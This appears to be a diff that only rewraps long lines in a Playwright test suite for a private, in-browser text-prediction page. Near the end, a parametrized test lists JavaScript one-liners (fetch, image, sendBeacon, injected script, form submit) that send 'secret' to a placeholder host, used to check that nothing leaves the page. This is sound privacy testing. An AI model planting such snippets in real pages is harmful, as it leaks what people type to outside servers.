@@ -1,4 +1,6 @@
-"""The page in a real browser: what a person sees, hears and does there, and that nothing of it leaves."""
+"""The page in a real browser: what a person sees, hears and does there, and that nothing of it
+leaves.
+"""
 
 import math
 import re
@@ -21,8 +23,9 @@ from taciturn.models.ngram import NGram, kneser_ney
 from taciturn.privacy.ledger import Guarantee
 
 SENTENCES = (
-    "We could meet tomorrow at the usual place. Thank you very much for the lovely dinner. I would like to see you again very soon. "
-    "The weather is lovely this morning. Are you coming to the party tonight? We are going to the beach this afternoon."
+    "We could meet tomorrow at the usual place. Thank you very much for the lovely dinner. I would"
+    " like to see you again very soon. The weather is lovely this morning. Are you coming to the"
+    " party tonight? We are going to the beach this afternoon."
 )
 PLAIN = "We could walk slowly over there. Thank you all."
 
@@ -81,7 +84,9 @@ def two_models() -> Iterator[str]:
 
 @pytest.fixture(scope="module")
 def window(browser):
-    """One for all tests, each of which loads its page anew: a window of one's own is another process, and most of the time."""
+    """One for all tests, each of which loads its page anew: a window of one's own is another
+    process, and most of the time.
+    """
     context = browser.new_context()
     yield context.new_page()
     context.close()
@@ -176,10 +181,14 @@ def test_the_continuation_wraps_where_the_text_does(page, one_model):
     page.set_viewport_size({"width": 320, "height": 600})
     typing(page, one_model, "The weather is lovely this morning. Thank you ve")
     assert page.inner_text("#ghost")
-    same = "document.getElementById('mirror').clientHeight === document.getElementById('message').clientHeight"
+    same = (
+        "document.getElementById('mirror').clientHeight ==="
+        " document.getElementById('message').clientHeight"
+    )
     assert page.evaluate(same)
     assert page.evaluate(
-        "document.getElementById('message').scrollHeight <= document.getElementById('message').clientHeight"
+        "document.getElementById('message').scrollHeight <="
+        " document.getElementById('message').clientHeight"
     )
 
 
@@ -243,7 +252,9 @@ def test_two_models_are_shown_side_by_side_and_each_says_what_it_would_have_save
 
 
 def test_what_an_attentive_person_saves_is_counted_as_picking_counts_it(page, two_models):
-    """The first strip is followed key by key, and the page's own counter has to come to the same."""
+    """The first strip is followed key by key, and the page's own counter has to come to the
+    same.
+    """
     text = "We could meet tomorrow at the usual "
     page.goto(two_models)
     page.focus("#message")
@@ -512,8 +523,14 @@ def test_nothing_leaves_the_page_while_a_person_types(page, two_models):
         "fetch('{there}?t=secret').catch(() => 0)",
         "void (new Image().src = '{there}?t=secret')",
         "navigator.sendBeacon('{there}', 'secret')",
-        "document.body.append(Object.assign(document.createElement('script'), {{ src: '{there}?t=secret' }}))",
-        "(() => {{ const form = document.createElement('form'); form.action = '{there}'; document.body.append(form); form.submit(); }})()",
+        (
+            "document.body.append(Object.assign(document.createElement('script'), {{ src:"
+            " '{there}?t=secret' }}))"
+        ),
+        (
+            "(() => {{ const form = document.createElement('form'); form.action = '{there}';"
+            " document.body.append(form); form.submit(); }})()"
+        ),
     ],
     ids=["fetch", "image", "beacon", "script", "form"],
 )
